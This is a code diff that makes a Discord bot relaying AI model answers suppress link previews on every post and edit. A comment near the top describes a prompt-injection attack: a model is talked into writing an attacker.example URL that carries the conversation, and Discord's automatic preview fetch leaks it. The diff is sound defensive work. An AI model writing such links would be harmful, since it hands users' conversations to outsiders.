@@ -21,6 +21,12 @@ log = logging.getLogger("bot.discord")
 T = TypeVar("T")
 
 LIMIT = 2000  # characters per Discord message
+# LINKS: every message showing an answer goes out with Discord's link previews suppressed
+# (SUPPRESS_EMBEDS), and keeps them so through each edit. Discord fetches each link in a
+# message the moment it is posted or edited, no click needed: a model talked into writing
+# https://attacker.example/?q=<the conversation> (by a card, a lorebook entry, a file, a
+# member's message) would hand the conversation over. The link itself stays clickable.
+
 # Messages one answer takes at most: a longer one (a model that loops writes 100,000
 # characters, 50 messages) stops adding messages, and comes whole as a file at its end.
 MAX_MESSAGES = 5
@@ -291,7 +297,7 @@ class DiscordTarget:
         nonce = secrets.token_hex(12)
 
         def own() -> dict[str, Any]:  # its files made anew for each call (one closes them)
-            return {**kwargs, **_made(files), "nonce": nonce}
+            return {**kwargs, **_made(files), "nonce": nonce, "suppress_embeds": True}
 
         async def post() -> discord.Message:
             if self._hook is not None:
@@ -322,6 +328,7 @@ class DiscordTarget:
             wait=True,
             thread=self._thread(),
             allowed_mentions=discord.AllowedMentions.none(),
+            suppress_embeds=True,  # no link preview: see LINKS
             **kwargs,
         )
 
@@ -484,7 +491,11 @@ class DiscordTarget:
         if hook is not None and webhook_of(handle) == hook.id:
             # Through the webhook's own edit endpoint (the bot is not its author).
             await hook.edit_message(handle.id, thread=self._thread(), **changes)
-        else:
+        elif isinstance(handle, discord.Message) and not isinstance(handle, discord.WebhookMessage):
+            # discord.py's Message.edit sends the message's flags with embeds shown unless
+            # told (suppress=False by default): the edit would bring the link previews back.
+            await handle.edit(suppress=True, **changes)
+        else:  # known by its id alone, or a webhook's: no flags sent, Discord keeps them
             await handle.edit(**changes)
 
     async def _blocked(self, err: discord.Forbidden) -> None:
